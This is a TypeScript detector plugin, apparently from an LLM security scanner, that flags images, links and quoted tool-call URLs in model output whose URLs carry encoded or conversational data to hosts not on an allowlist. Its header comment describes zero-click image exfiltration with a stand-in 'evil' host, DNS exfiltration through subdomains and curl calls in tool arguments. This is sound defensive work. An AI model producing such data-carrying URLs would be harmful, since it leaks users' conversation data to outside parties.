/**
 * exfil-links: a markdown or HTML image or link in model output whose URL carries data to a
 * host outside `security.output.link_allowlist` (passed in as `ctx.config.link_allowlist`).
 * A chat UI fetches an image the moment it renders it, so `![x](https://evil/c?d=<data>)`
 * leaks <data> without a click; a link leaks it on the click.
 *
 * "Carries data": 24 or more characters, over the URL's query keys and values, fragment, path
 * segments and subdomain labels, that are encoded text (base64 or hex that decodes to
 * readable text, percent-encoded or not) or conversation-looking (three or more words apart
 * by spaces once decoded). Short values (`?w=640`), slugs (`/docs/getting-started`), hashes
 * and ids (they decode to noise) and hosts on the allow list are not.
 *
 * Severity: `high` for images (zero-click), `medium` for links (a click away), so the default
 * `security.block_severity: high` blocks images and flags links.
 *
 * URLs are resolved before they are judged: reference-style images (`![x][r]`, `![r][]`, `![r]`
 * with `[r]: url` anywhere in the text) are images, as inline ones are, and so is a definition
 * that no reference in sight uses (a stream window may not hold it); autolinks `<https://…>`
 * are links. A bare URL in prose is left alone (nothing renders or fetches it); a URL that is a whole quoted string (`"url": "https://…"` in tool-call
 * arguments, `fetch_url("https://…")`) is fetched by the agent that runs the tool, without a
 * click: it is judged like an image (`exfil-links.tool-url-data`, high), spaces and JSON `\/`
 * escapes included; so is a URL inside a longer quoted string (`{"command": "curl https://…"}`).
 */
import type { DetectorPlugin, Finding, NormalisedInput } from '../../src/scanning/types.js';
import { dataChars, hostAllowed } from '../../src/scanning/url-data.js';

export const MIN_DATA_CHARS = 24;

// Markdown image/link `[text](url`, HTML <img src=url>, <a href=url>, and reference-style
// definitions `[id]: url`. JS RegExps: bounded repetitions, linear.
const MARKDOWN = /(!?)\[[^\]\n]{0,500}\]\(\s*<?([^)\s>]{1,4000})/g;
const HTML = /<(img|a|image|source|video|audio|iframe)\b[^>]{0,500}?\b(src|href|srcset|poster)\s*=\s*(?:"([^"]{1,4000})"?|'([^']{1,4000})'?|([^"'\s>]{1,4000}))/gi;
const REFERENCE = /^\s{0,3}\[([^\]\n]{1,200})\]:\s*<?([^\s>]{1,4000})/gm;
/** Reference-style images: full `![alt][ref]`, collapsed `![ref][]` and shortcut `![ref]`. */
const IMAGE_REFERENCE = /!\[([^\]\n]{0,500})\](?:\[([^\]\n]{0,200})\])?(?![(:])/g;
/** Reference-style links (not images): `[text][ref]`, `[ref][]`, `[ref]`. */
const LINK_REFERENCE = /(?<!!)\[([^\]\n]{0,500})\](?:\[([^\]\n]{0,200})\])?(?![(:])/g;
const AUTOLINK = /<(https?:\/\/[^\s>]{1,4000})>/gi;
/** A URL that is a whole double-quoted string (JSON escapes allowed: `\/`, `\"`). */
const QUOTED_URL = /"(https?:(?:\\?\/){2}(?:[^"\\\n]|\\.){1,4000})"/gi;
/** A double-quoted string (a JSON value: tool-call arguments) and the URLs inside one (`curl https://…`). */
const QUOTED = /"((?:[^"\\\n]|\\.){1,4000})"/g;
const URL_IN_STRING = /https?:\/\/[^\s"'<>]{1,4000}/gi;

/** Labels of reference definitions match case-insensitively, with runs of white space as one. */
const label = (s: string): string => s.trim().replace(/\s+/g, ' ').toLowerCase();

/** A JSON string's escapes undone (what the tool receives). */
function unescapeJson(s: string): string {
  try {
    return JSON.parse(`"${s}"`) as string;
  } catch {
    return s.replace(/\\\//g, '/');
  }
}

/** The data a URL carries to a host not on the allow list, in characters (0: none or allowed). */
export function urlData(raw: string, allow: string[]): number {
  let url: URL;
  try {
    url = new URL(raw.startsWith('//') ? `https:${raw}` : raw);
  } catch {
    return 0; // relative links stay on the page's own host
  }
  if (url.protocol !== 'http:' && url.protocol !== 'https:') return 0;
  if (hostAllowed(url.hostname, allow)) return 0;
  let total = 0;
  for (const [k, v] of new URLSearchParams(url.search)) total += dataChars(k) + dataChars(v);
  if (url.hash.length > 1) total += dataChars(url.hash.slice(1));
  for (const seg of url.pathname.split('/')) if (seg) total += dataChars(seg);
  // The host itself can carry data too (DNS exfiltration: <data>.evil.example).
  for (const label of url.hostname.split('.').slice(0, -2)) total += dataChars(label);
  return total;
}

const plugin: DetectorPlugin = {
  meta: {
    name: 'exfil-links',
    version: '1.0.0',
    description: 'Images and links in model output whose URL carries data to a host outside security.output.link_allowlist.',
    targets: ['output'],
    defaultConfig: { link_allowlist: [] as string[] },
    schema: { type: 'object', additionalProperties: false, required: ['link_allowlist'], properties: { link_allowlist: { type: 'array', items: { type: 'string' } } } },
  },
  scan(input: NormalisedInput, ctx): Finding[] {
    const text = input.original;
    if (!text.includes('://') && !text.includes(':\\/\\/') && !text.includes('](//') && !/src\s*=\s*["']?\/\//i.test(text)) return [];
    const raw = ctx.config.link_allowlist;
    const allow = Array.isArray(raw) ? raw.filter((h): h is string => typeof h === 'string' && h.length > 0) : [];
    const images: Finding['spans'] = [];
    const links: Finding['spans'] = [];
    const tools: Finding['spans'] = [];
    let most = 0;
    /** Where a URL was already judged: an autolink or quoted match inside one is the same URL. */
    const seen: { start: number; end: number }[] = [];
    const consider = (kind: 'image' | 'link' | 'tool', url: string, start: number, end: number) => {
      seen.push({ start, end });
      const n = urlData(url, allow);
      if (n < MIN_DATA_CHARS) return;
      most = Math.max(most, n);
      (kind === 'image' ? images : kind === 'tool' ? tools : links).push({ start, end });
    };
    const judged = (at: number) => seen.some((r) => at >= r.start && at < r.end);
    // Labels a reference-style image points at: their definitions are images.
    const imageLabels = new Set<string>();
    if (text.includes('![')) for (const m of text.matchAll(IMAGE_REFERENCE)) imageLabels.add(label(m[2] || m[1]!));
    for (const m of text.matchAll(MARKDOWN)) consider(m[1] === '!' ? 'image' : 'link', m[2]!, m.index!, m.index! + m[0].length);
    // An attribute's value whole, quoted or not (a `'` inside a double-quoted one does not end it).
    for (const m of text.matchAll(HTML)) consider(/^(img|image|source|video|audio|iframe)$/i.test(m[1]!) && m[2]!.toLowerCase() !== 'href' ? 'image' : 'link', (m[3] ?? m[4] ?? m[5]!).trim(), m.index!, m.index! + m[0].length);
    // A definition no visible reference uses is judged as an image: in a stream the reference may
    // have gone out in an earlier window, and an image is what it could be.
    let linkLabels: Set<string> | null = null;
    for (const m of text.matchAll(REFERENCE)) {
      const l = label(m[1]!);
      if (linkLabels === null) {
        linkLabels = new Set<string>();
        for (const r of text.matchAll(LINK_REFERENCE)) linkLabels.add(label(r[2] || r[1]!));
      }
      consider(imageLabels.has(l) || !linkLabels.has(l) ? 'image' : 'link', m[2]!, m.index!, m.index! + m[0].length);
    }
    for (const m of text.matchAll(AUTOLINK)) if (!judged(m.index!)) consider('link', m[1]!, m.index!, m.index! + m[0].length);
    for (const m of text.matchAll(QUOTED_URL)) if (!judged(m.index! + 1)) consider('tool', unescapeJson(m[1]!), m.index!, m.index! + m[0].length);
    // A URL inside a longer quoted string (`{"command": "curl -s https://…"}`): the tool fetches it too.
    if (text.includes('"')) {
      for (const m of text.matchAll(QUOTED)) {
        if (judged(m.index! + 1) || !m[1]!.includes(':')) continue;
        for (const u of unescapeJson(m[1]!).matchAll(URL_IN_STRING)) consider('tool', u[0], m.index!, m.index! + m[0].length);
      }
    }
    const findings: Finding[] = [];
    if (tools.length) {
      findings.push({
        attackType: 'data_exfiltration', severity: 'high', confidence: 0.75, ruleId: 'exfil-links.tool-url-data',
        message: `A quoted URL (a tool-call argument) carries ${most} characters of data to a host outside security.output.link_allowlist`, spans: tools,
      });
    }
    if (images.length) {
      findings.push({
        attackType: 'data_exfiltration', severity: 'high', confidence: 0.8, ruleId: 'exfil-links.image-data',
        message: `An image URL carries ${most} characters of data to a host outside security.output.link_allowlist`, spans: images,
      });
    }
    if (links.length) {
      findings.push({
        attackType: 'data_exfiltration', severity: 'medium', confidence: 0.6, ruleId: 'exfil-links.link-data',
        message: `A link URL carries ${most} characters of data to a host outside security.output.link_allowlist`, spans: links,
      });
    }
    return findings;
  },
};

export default plugin;
